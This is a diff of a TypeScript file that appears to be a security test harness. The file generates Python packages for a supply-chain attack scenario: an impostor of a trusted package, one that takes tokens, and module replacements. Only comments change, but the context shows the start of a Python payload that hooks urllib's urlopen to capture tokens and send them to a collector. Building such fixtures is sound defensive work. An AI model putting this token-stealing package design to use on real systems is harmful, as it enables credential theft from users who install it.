@@ -3,7 +3,7 @@ import { type WheelIndex, wheelIndex } from '../../subgraphs/functions/packages/
 /** What a report says of its kind where code of a package made it. */
 export const PACKAGE = 'a package'
 
-/** It looks like any other, and takes the token of whatever runs in a process that has imported it. */
+/** It looks like any other, and takes the tokens of the runs in a process that has imported it. */
 const HELPFUL = (collector: number) => `import base64, json, os, socket, urllib.request
 __version__ = "1.0"
 _open, _dumps, _connect = urllib.request.urlopen, json.dumps, socket.create_connection
@@ -30,7 +30,7 @@ urllib.request.urlopen = urlopen
 `
 
 /**
- * Packages to install: `honest`, which the victim gives to everybody; another of that name that is newer and not honest; one that takes tokens;
+ * Packages to install: `honest`, which the victim installs for all users; another of that name that is newer and not honest; one that takes tokens;
  * and two that would take the place of modules of Python and of another package.
  */
 export function makeWheels(collector: number): WheelIndex {
